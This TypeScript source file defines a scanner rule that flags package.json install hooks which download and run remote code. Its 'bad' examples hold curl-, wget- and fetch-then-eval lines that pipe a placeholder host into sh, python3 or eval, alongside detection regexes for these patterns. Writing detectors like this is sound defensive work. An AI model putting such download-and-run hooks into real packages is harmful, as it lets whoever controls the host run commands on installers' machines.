import { fileRule } from '../../engine/rule.ts';
import { at, membersOf, textOf } from '../../lockfile/located.ts';
import { manifestReader } from '../../lockfile/manifest.ts';

export const ownInstallScript = fileRule({
  id: 'package/own-install-script',
  title: 'Install script that downloads and runs',
  severity: 'high',
  confidence: 'likely',
  weakness: ['CWE-494'],
  kind: 'security',
  what: 'A package.json has an install script that fetches something and hands it to a shell or an interpreter.',
  why: 'Whoever controls that address, or the way to it, runs commands on every machine that installs the package.',
  fix: 'Ship what is needed as a package with a hash in the lockfile, or download it with a checksum that the script compares.',
  bad: [
    { 'package.json': '{"scripts": {"postinstall": "curl -fsSL https://acme.example/setup.sh | sh"}}' },
    {
      'package.json':
        '{"scripts": {"preinstall": "node -e \\"fetch(\'https://acme.example/x\').then(r => r.text()).then(eval)\\""}}',
    },
    { 'package.json': '{"scripts": {"install": "wget -qO- http://acme.example/a.py | python3 -"}}' },
  ],
  good: [
    {
      'package.json':
        '{"scripts": {"postinstall": "husky && node scripts/link.js", "build": "curl https://acme.example/a.sh | sh"}}',
    },
    { 'package.json': '{"scripts": {"postinstall": "echo see https://acme.example/docs"}}' },
  ],
  wants: ['manifest'],
  check(file, report) {
    const manifest = file.tree(manifestReader);
    if (manifest?.format !== 'package-json') return;
    for (const [name, { start, value }] of membersOf(at(manifest.root, 'scripts'))) {
      const command = textOf(value) ?? '';
      if (/^(pre|post)?install$|^prepare$/.test(name) && runsDownload(command))
        report({
          start,
          end: value.end,
          message: `\`${name}\` downloads something and runs it`,
          identity: name,
        });
    }
  },
});

const runsDownload = (command: string): boolean =>
  /\b(curl|wget)\b[^|;&]{0,500}\|\s*(sudo\s+)?(ba|z|da)?sh\b/.test(command) ||
  /\b(curl|wget)\b[^|;&]{0,500}\|\s*(sudo\s+)?(node|python3?|perl|ruby)\b/.test(command) ||
  /\b(ba|z|da)?sh\s+(-c\s+)?["']?(<\(|\$\()\s*(curl|wget)\b/.test(command) ||
  (/\bnode\s+(-e|--eval|-p)\b/.test(command) &&
    /\b(fetch|https?\.get)\b/.test(command) &&
    /\b(eval|exec\w*|spawn\w*|Function)\b/.test(command));
